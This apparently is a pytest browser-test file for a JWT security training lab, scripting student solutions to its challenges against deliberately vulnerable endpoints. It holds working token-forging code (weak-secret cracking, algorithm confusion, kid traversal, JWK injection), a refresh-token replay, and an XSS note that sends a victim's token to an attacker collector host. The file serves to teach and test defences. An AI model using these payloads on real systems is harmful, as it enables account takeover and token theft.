"""The JWT lab's challenges, solved as a student would: DevTools-style fetches from the challenge page,
the naive notes app, the attacker's exploit server and the victim bot.

Each visit of the victim bot drives a real Chromium for a few seconds, so each victim challenge
has one solving test and one near miss; each judge's rules, the twins' hostile input and the
real code's refusals are in test_jwt_challenges.py.
"""

import base64
import json
import re
from urllib.parse import parse_qs

import pytest
import requests

from tests.challenges.student import challenge, status

pytestmark = pytest.mark.browser

# What a student types in the console: base64url, HMAC with WebCrypto, bob's naive sign-in.
TOOLS = """
const b64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
  .replace(/\\+/g, "-").replace(/\\//g, "_").replace(/=+$/, "");
const b64json = (value) => b64(new TextEncoder().encode(JSON.stringify(value)));
const unb64json = (part) => JSON.parse(atob(part.replace(/-/g, "+").replace(/_/g, "/")));
const bytes = (text) => new TextEncoder().encode(text);
async function hs256(key, input) {
  const hmac = await crypto.subtle.importKey("raw", key, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return b64(await crypto.subtle.sign("HMAC", hmac, bytes(input)));
}
async function bobsToken() {
  const answer = await fetch("/vulnerable/jwt/login", { method: "POST", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ username: "bob", password: "thebuilder" }) });
  return (await answer.json()).access_token;
}
async function asAdmin() {
  const [header, payload] = (await bobsToken()).split(".").slice(0, 2).map(unb64json);
  return [header, { ...payload, role: "admin" }];
}
async function admin(token) {
  return (await fetch("/vulnerable/jwt/admin", { headers: { Authorization: `Bearer ${token}` } })).status;
}
"""

# Each forged-token challenge, as its hints lead a student to solve it in the console.
ATTACKS = {
    "jwt-weak-secret": """
        const token = await bobsToken();
        const [h, p, signature] = token.split(".");
        const words = (await (await fetch("/vulnerable/jwt/wordlist.txt")).text()).split("\\n").filter(Boolean);
        let secret = null;
        for (const word of words) if ((await hs256(bytes(word), `${h}.${p}`)) === signature) { secret = word; break; }
        const input = `${b64json(unb64json(h))}.${b64json({ ...unb64json(p), role: "admin" })}`;
        return admin(`${input}.${await hs256(bytes(secret), input)}`);
    """,
    "jwt-alg-confusion": """
        const pem = await (await fetch("/vulnerable/jwt/public.pem")).text();
        const [, payload] = await asAdmin();
        const input = `${b64json({ alg: "HS256", typ: "JWT", kid: "naive-rs" })}.${b64json(payload)}`;
        return admin(`${input}.${await hs256(bytes(pem), input)}`);
    """,
    # WebCrypto refuses an empty HMAC key; HMAC pads a short key with zeros to its 64-byte
    # block, so 64 zero bytes are the very same key as the empty content of /dev/null.
    "jwt-kid-traversal": """
        const [header, payload] = await asAdmin();
        const input = `${b64json({ ...header, kid: "../../../dev/null" })}.${b64json(payload)}`;
        return admin(`${input}.${await hs256(new Uint8Array(64), input)}`);
    """,
    "jwt-jwk-injection": """
        const keys = await crypto.subtle.generateKey({ name: "RSASSA-PKCS1-v1_5", modulusLength: 2048,
          publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256" }, true, ["sign", "verify"]);
        const jwk = await crypto.subtle.exportKey("jwk", keys.publicKey);
        const [, payload] = await asAdmin();
        const header = { alg: "RS256", typ: "JWT", jwk: { kty: "RSA", n: jwk.n, e: jwk.e } };
        const input = `${b64json(header)}.${b64json(payload)}`;
        return admin(`${input}.${b64(await crypto.subtle.sign("RSASSA-PKCS1-v1_5", keys.privateKey, bytes(input)))}`);
    """,
}


def console(page, body):
    """Run a few lines in the page, as a student would in DevTools' console."""
    return page.evaluate(f"async () => {{ {TOOLS} {body} }}")


def let_the_victim_sign_in(page):
    page.click("text=Let the victim sign in")
    page.wait_for_selector("text=The victim's last visit")


def claims_of(token):
    return json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))


def sign_in_to_the_notes(page, live, username, password):
    page.goto(f"{live.app_url}/vulnerable/jwt/notes")
    page.fill("#notes-username", username)
    page.fill("#notes-password", password)
    page.click("text=Sign in to the naive notes")
    page.wait_for_selector("[data-notes-signed-in]:not([hidden])")


def post_a_note(page, text):
    page.fill("#notes-text", text)
    page.click("text=Post the note")
    page.wait_for_selector(".note-text", state="attached")


@pytest.mark.parametrize("challenge_id", sorted(ATTACKS))
def test_each_forged_token_challenge_is_solved_from_the_console_of_its_page(live, page, challenge_id):
    challenge(page, live, challenge_id)
    assert status(page).startswith("Not solved")
    assert console(page, ATTACKS[challenge_id]) == 200
    page.reload()
    assert status(page).startswith("Solved")


def test_the_refused_by_link_opens_the_real_line_after_the_real_attempt(live, page):
    challenge(page, live, "jwt-kid-traversal")
    console(page, ATTACKS["jwt-kid-traversal"])
    page.reload()
    page.click("text=Send the same attack to the real code")
    assert "The real app answered 401: refused" in page.text_content("#real")
    page.click("#real a[href*='/source/blueprints/jwt/checks.py']")
    assert page.locator("text=def known_key").count() >= 1


# --- jwt-refresh-replay ------------------------------------------------------------------------

STATUS = ".then(answer => answer.status)"
REPLAY = "t => fetch('/vulnerable/jwt/refresh', {method: 'POST', headers: {Authorization: 'Bearer ' + t}})" + STATUS
ADMIN = "t => fetch('/vulnerable/jwt/admin', {headers: {Authorization: 'Bearer ' + t}})" + STATUS


def test_refresh_replay_is_solved_with_the_used_refresh_token_from_the_leaked_log(live, page):
    challenge(page, live, "jwt-refresh-replay")
    let_the_victim_sign_in(page)
    log = page.request.get(f"{live.app_url}/vulnerable/jwt/log").text()
    leaked = re.search(r"user=alice Authorization: Bearer (\S+)", log).group(1)
    assert page.evaluate(REPLAY, leaked) == 200
    page.reload()
    assert status(page).startswith("Solved")


def test_refresh_replay_stays_unsolved_when_the_student_replays_their_own_alice_token(live, page):
    sign_in_to_the_notes(page, live, "alice", "wonderland")
    own = page.evaluate("localStorage.getItem('naive_jwt_refresh')")
    page.click("text=Refresh the access token")
    page.wait_for_selector("[data-notes-status]:has-text('Refreshed')")
    assert page.evaluate(REPLAY, own) == 200  # the naive server takes it again: but it is no leak
    challenge(page, live, "jwt-refresh-replay")
    assert status(page).startswith("Not solved")


# --- jwt-xss-token-theft -----------------------------------------------------------------------


def collector(page, live):
    """A page stored on the attacker's exploit server: its id, whose collector logs what reaches it."""
    page.goto(f"{live.attacker_url}/exploit")
    page.fill("#exploit-body", "<p>Nothing to see</p>")
    page.click("text=Store the page")
    return page.get_attribute("#exploit-address", "href").rsplit("/", 1)[1]


def stolen_tokens(live, exploit_id):
    log = requests.get(f"{live.attacker_url}/exploit/{exploit_id}/log.json", timeout=10).json()["entries"]
    return [token for entry in log for token in parse_qs(entry["query"]).get("t", [])]


def test_xss_token_theft_is_solved_with_alices_token_sent_to_the_collector_by_a_note(live, page):
    exploit_id = collector(page, live)
    sign_in_to_the_notes(page, live, "bob", "thebuilder")
    post_a_note(
        page,
        f"<script>fetch('{live.attacker_url}/collect/{exploit_id}?t=' + localStorage.getItem('naive_jwt_token'))"
        "</script>",
    )
    challenge(page, live, "jwt-xss-token-theft")
    let_the_victim_sign_in(page)
    alices = [token for token in stolen_tokens(live, exploit_id) if claims_of(token).get("sub") == "alice"]
    assert alices, "the note sent no token of alice's to the collector"
    assert (
        page.evaluate(
            "t => fetch('/vulnerable/jwt/admin', {headers: {Authorization: `Bearer ${t}`}}).then(r => r.status)",
            alices[0],
        )
        == 200
    )
    page.reload()
    assert status(page).startswith("Solved")


def test_xss_token_theft_stays_unsolved_with_an_alice_token_the_student_signed_in_for(live, page):
    sign_in_to_the_notes(page, live, "alice", "wonderland")
    own = page.evaluate("localStorage.getItem('naive_jwt_token')")
    assert (
        page.evaluate(
            "t => fetch('/vulnerable/jwt/admin', {headers: {Authorization: `Bearer ${t}`}}).then(r => r.status)", own
        )
        == 200
    )
    challenge(page, live, "jwt-xss-token-theft")
    assert status(page).startswith("Not solved")


# LAB-3: a note's script runs on the app's own origin. What it may reach, and what it may not.
PROBE = """<script>
(async () => {
  const seen = {};
  const read = async (name, url) => {
    try { const r = await fetch(url); seen[name] = `${r.status} ${(await r.text()).slice(0, 40)}`; }
    catch { seen[name] = "blocked"; }
  };
  await read("real jwt lab", "/jwt/");
  await read("challenges", "/challenges");
  await read("dot segments", "/vulnerable/jwt/%2e%2e/%2e%2e/jwt/");
  await read("encoded slashes", "/vulnerable/jwt/..%2F..%2Fjwt%2F");
  await read("naive public key", "/vulnerable/jwt/public.pem");
  const popup = window.open("/jwt/");
  for (let wait = 0; wait < 50 && !seen.popup; wait++) {
    await new Promise((done) => setTimeout(done, 100));
    try {
      if (popup.closed) seen.popup = "out of reach";
      else if (popup.document.URL.endsWith("/jwt/")) seen.popup = "read";
    } catch { seen.popup = "out of reach"; }
  }
  document.body.dataset.probe = JSON.stringify(seen);
})();
</script>"""


def test_lab_3_a_notes_script_reaches_the_naive_jwt_server_and_no_real_page(live, browser):
    context = browser.new_context()  # not the `page` fixture: the CSP refusals below log console errors
    try:
        page = context.new_page()
        sign_in_to_the_notes(page, live, "bob", "thebuilder")
        post_a_note(page, PROBE)
        page.wait_for_selector("body[data-probe]", timeout=15_000)
        seen = json.loads(page.get_attribute("body", "data-probe"))
    finally:
        context.close()
    assert seen["real jwt lab"] == seen["challenges"] == seen["dot segments"] == "blocked"
    assert seen["encoded slashes"].startswith("404")  # inside the allowed path, and no real page there
    assert seen["naive public key"].startswith("200 -----BEGIN PUBLIC KEY")
    assert seen["popup"] == "out of reach"
